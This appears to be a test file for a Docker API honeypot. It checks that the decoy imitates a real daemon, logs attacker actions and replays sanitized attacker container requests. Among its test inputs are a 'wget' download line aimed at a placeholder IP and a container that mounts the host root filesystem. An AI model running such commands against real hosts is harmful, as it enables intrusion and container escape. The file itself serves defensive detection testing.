/** The docker client, and requests as attackers send them, against the decoy as a process. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { connect, type PeerCertificate } from 'node:tls';
import { fileURLToPath } from 'node:url';
import type { DecoyEvent } from '../../src/model/event.ts';
import { startSensor, without } from './sensor.ts';

interface Ran {
  readonly exitCode: number;
  readonly stdout: string;
  readonly stderr: string;
}

const folder = mkdtempSync(join(tmpdir(), 'waterguard-docker-'));

function docker(port: number, args: readonly string[], input = ''): Promise<Ran> {
  return new Promise((resolve) => {
    const env = {
      PATH: process.env.PATH,
      HOME: folder,
      DOCKER_HOST: `tcp://127.0.0.1:${port}`,
      DOCKER_BUILDKIT: '0',
    };
    const child = execFile('docker', [...args], { env, timeout: 60_000 }, (error, stdout, stderr) => {
      resolve({
        exitCode: error === null ? 0 : typeof error.code === 'number' ? error.code : -1,
        stdout,
        stderr,
      });
    });
    child.stdin!.on('error', () => {});
    child.stdin!.end(input);
  });
}

test('the docker client works as on a real daemon', { skip: without('docker') }, async () => {
  await using sensor = await startSensor(['docker']);
  const port = sensor.port('docker');
  const works = async (...args: readonly string[]): Promise<string> => {
    const { exitCode, stdout, stderr } = await docker(port, args);
    assert.equal(exitCode, 0, `docker ${args.join(' ')}: ${stderr}`);
    return stdout;
  };
  try {
    assert.match(
      await works('version'),
      /Version:\s+20\.10\.24\+dfsg1\n\s+API version:\s+1\.41 \(minimum version 1\.12\)/,
    );
    assert.match(await works('info'), /Server Version: 20\.10\.24\+dfsg1/);
    assert.ok((await works('ps')).trim().split('\n').length >= 3);
    assert.match(await works('pull', 'alpine'), /Status: Downloaded newer image for alpine:latest/);

    const id = (
      await works('run', '-d', '--name', 'one', '-v', '/:/mnt', 'alpine', 'sh', '-c', 'echo begun; sleep 300')
    ).trim();
    assert.match(id, /^[0-9a-f]{64}$/);
    assert.match(await works('ps'), /sh -c 'echo begun; …"\s+(?:\d+ seconds?|Less than a second) ago\s+Up /);
    assert.equal(await works('logs', 'one'), 'begun\n');
    assert.equal(await works('exec', 'one', 'echo', 'inside'), 'inside\n');
    assert.equal((await docker(port, ['exec', 'one', 'sh', '-c', 'exit 9'])).exitCode, 9);
    assert.equal(await works('run', '--rm', 'alpine', 'echo', 'attached'), 'attached\n');
    assert.equal((await docker(port, ['run', '-i', '--rm', 'alpine', 'cat'], 'typed\n')).stdout, 'typed\n');
    assert.equal((await docker(port, ['run', 'alpine', 'sh', '-c', 'exit 3'])).exitCode, 3);
    assert.match(
      (await docker(port, ['run', 'alpine', 'nonsense'])).stderr,
      /exec: "nonsense": executable file not found in \$PATH/,
    );

    writeFileSync(join(folder, 'left'), 'wget http://203.0.113.9/x\n');
    await works('cp', join(folder, 'left'), 'one:/tmp/left');
    await works('cp', 'one:/tmp/left', join(folder, 'taken'));
    assert.equal(readFileSync(join(folder, 'taken'), 'utf8'), 'wget http://203.0.113.9/x\n');
    assert.match(await works('diff', 'one'), /^A \/tmp\/left$/m);
    assert.match(await works('top', 'one'), /sleep 300/);
    await works('stats', '--no-stream');

    mkdirSync(join(folder, 'context'));
    writeFileSync(
      join(folder, 'context/Dockerfile'),
      'FROM alpine\nCOPY run.sh /run.sh\nRUN echo built\nCMD ["sh", "/run.sh"]\n',
    );
    writeFileSync(join(folder, 'context/run.sh'), 'echo from the context\n');
    const built = await works('build', '-t', 'made:1', join(folder, 'context'));
    assert.match(built, /Step 3\/4 : RUN echo built\n ---> Running in [0-9a-f]{12}\nbuilt\n/);
    assert.match(built, /Successfully tagged made:1\n$/);
    assert.equal(await works('run', '--rm', 'made:1'), 'from the context\n');

    assert.match(await works('commit', 'one', 'kept:1'), /^sha256:/);
    await works('tag', 'kept:1', 'example.invalid/kept:2');
    assert.match(await works('push', 'example.invalid/kept:2'), /digest: sha256:/);
    await works('login', '-u', 'user', '-p', 'secret', 'example.invalid');
    assert.match(await works('images'), /made\s+1/);
    await works('image', 'rm', 'kept:1');
    await works('network', 'create', 'lan');
    await works('network', 'connect', 'lan', 'one');
    await works('network', 'inspect', 'lan');
    await works('network', 'disconnect', 'lan', 'one');
    await works('network', 'rm', 'lan');
    await works('volume', 'create', 'box');
    await works('volume', 'rm', 'box');
    await works('system', 'df');
    await works('events', '--since', '1h', '--until', '0s');
    await works('swarm', 'init');
    await works('service', 'create', '-d', '--name', 'service', 'alpine', 'sleep', '100');
    assert.match(await works('service', 'ls'), /service\s+replicated\s+1\/1/);
    await works('node', 'ls');
    await works('swarm', 'leave', '--force');
    await works('rename', 'one', 'two');
    await works('pause', 'two');
    await works('unpause', 'two');
    await works('restart', '-t', '0', 'two');
    await works('stop', '-t', '0', 'two');
    assert.match(await works('inspect', 'two'), /"Status": "exited"/);
    await works('rm', '-f', 'two');

    const put = await sensor.event('docker.archive.put');
    assert.deepEqual(put.norm.urls, ['http://203.0.113.9/x']);
    const build = await sensor.event('docker.image.build');
    assert.ok((build.data?.artefacts as { name: string }[]).some(({ name }) => name === 'context/run.sh'));
    const login = await sensor.event('docker.auth');
    assert.deepEqual([login.data?.user, login.data?.password], ['user', 'secret']);
    assert.equal((login.attack as string[]).includes('T1610'), false);
    await sensor.event(
      'docker.container.exec',
      ({ data }) => (data?.cmd as string[]).join() === 'echo,inside',
    );
    await sensor.event(
      'docker.container.run',
      ({ data }) => data?.output === 'attached\n' && data.exitCode === 0,
    );
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test('the daemon behind TLS has a certificate of its own house, asks nobody for one, and takes the fingerprint', async () => {
  await using sensor = await startSensor(['docker-tls']);
  const { certificate, protocol, answer } = await askOverTls(sensor.port('docker-tls'));
  assert.equal(protocol, 'http/1.1');
  assert.match(certificate.subjectaltname ?? '', /^DNS:[^,]+, IP Address:[\d.]+, IP Address:127\.0\.0\.1$/);
  assert.notEqual(certificate.issuer.CN, certificate.subject.CN);
  assert.match(answer, /"Version":"20\.10\.24\+dfsg1"/);
  const event = await sensor.event('docker.request');
  assert.match(event.fp.ja4 ?? '', /^t13/);
});

interface Overheard {
  readonly certificate: PeerCertificate;
  readonly protocol: string | false | null;
  readonly answer: string;
}

function askOverTls(port: number): Promise<Overheard> {
  return new Promise((resolve, reject) => {
    const options = { host: '127.0.0.1', port, rejectUnauthorized: false, ALPNProtocols: ['h2', 'http/1.1'] };
    let certificate: PeerCertificate;
    let answer = '';
    const socket = connect(options, () => {
      certificate = socket.getPeerCertificate();
      socket.write('GET /version HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    });
    socket.setEncoding('utf8').on('data', (part: string) => {
      answer += part;
    });
    socket.once('end', () => resolve({ certificate, protocol: socket.alpnProtocol, answer }));
    socket.once('error', reject);
  });
}

const data =
  process.env.WATERGUARD_TEST_DATA ?? fileURLToPath(new URL('../../../shared/data', import.meta.url));
const samples = `${data}/honeypots/docker-create-sanitized-sample.json`;

interface Sample {
  readonly url: string;
  readonly body: Readonly<Record<string, unknown>> & {
    readonly Image: string;
    readonly Cmd?: readonly string[];
  };
}

test('creations that attackers asked for are played as they did, and leave events with the hosts that they name', {
  skip: existsSync(samples) ? false : `${samples} is absent`,
}, async () => {
  await using sensor = await startSensor(['docker']);
  const base = `http://127.0.0.1:${sensor.port('docker')}`;
  const post = (target: string, body?: object): Promise<Response> =>
    fetch(`${base}${target}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      ...(body !== undefined && { body: JSON.stringify(body) }),
      signal: AbortSignal.timeout(20_000),
    });
  const play = async ({ url, body }: Sample): Promise<void> => {
    const whole = JSON.parse(
      JSON.stringify(body).replaceAll('hxxp', 'http').replaceAll('[.]', '.'),
    ) as Sample['body'];
    let created = await post(url, whole);
    if (created.status === 404) {
      await (
        await post(`/v1.24/images/create?fromImage=${encodeURIComponent(body.Image)}&tag=latest`)
      ).text();
      created = await post(url, whole);
    }
    if (created.status === 409) created = await post(url.replace(/\?.*/, ''), whole);
    assert.equal(created.status, 201);
    const { Id: id } = (await created.json()) as { Id: string };
    const attached = post(`/v1.24/containers/${id}/attach?stream=1&stdout=1&stderr=1`);
    attached.catch(() => {});
    assert.equal((await post(`/v1.24/containers/${id}/start`)).status, 204);
    const event = await sensor.event('docker.container.create', (one) => one.data?.id === id);
    assert.ok(event.attack.includes('T1610') && event.attack.includes('T1611'));
    assert.deepEqual(event.norm.images, [body.Image]);
    for (const host of hostsIn(whole))
      assert.ok(event.norm.hosts.includes(host), `${host} in ${event.norm.hosts.join()}`);
    await sensor.event('docker.container.start', (one: DecoyEvent) => one.data?.container === id);
    await sensor.event('docker.container.run', (one) => one.data?.id === id);
  };
  await Promise.all((JSON.parse(readFileSync(samples, 'utf8')) as Sample[]).map(play));
});

function hostsIn({ Cmd = [] }: Sample['body']): string[] {
  return [...Cmd.join(' ').matchAll(/https?:\/\/([\d.]+)/g)].map(([, host]) => host!);
}
